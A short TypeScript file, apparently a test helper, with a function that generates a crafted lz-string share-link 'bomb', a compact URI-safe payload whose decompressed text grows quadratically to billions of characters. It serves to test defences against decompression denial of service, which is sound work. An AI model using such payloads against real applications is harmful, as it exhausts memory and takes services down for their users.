/**
 * A crafted share-link payload in lz-string's URI-safe alphabet: one character, then `codes`
 * codes that each name the entry being made (the previous entry plus its first character), so the
 * k-th code stands for k + 1 characters and the text grows quadratically — about codes²/2
 * characters. `codes` = 101,000 makes a 263 KB link of some four billion characters.
 */
const URI_SAFE = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';

export function linkBomb(codes: number, end = true): string {
  const out: string[] = [];
  let value = 0;
  let position = 0;
  const write = (code: number, bitCount: number) => {
    for (let n = 0; n < bitCount; n++) {
      value = (value << 1) | ((code >> n) & 1);
      if (++position === 6) {
        out.push(URI_SAFE.charAt(value));
        value = 0;
        position = 0;
      }
    }
  };
  write(0, 2); // an 8-bit character follows
  write('a'.charCodeAt(0), 8);
  let dictSize = 4;
  let enlargeIn = 4;
  let numBits = 3;
  for (let k = 0; k < codes; k++) {
    write(dictSize, numBits);
    dictSize++;
    if (--enlargeIn === 0) enlargeIn = 2 ** numBits++;
  }
  if (end) write(2, numBits);
  while (position !== 0) write(0, 1);
  return out.join('');
}
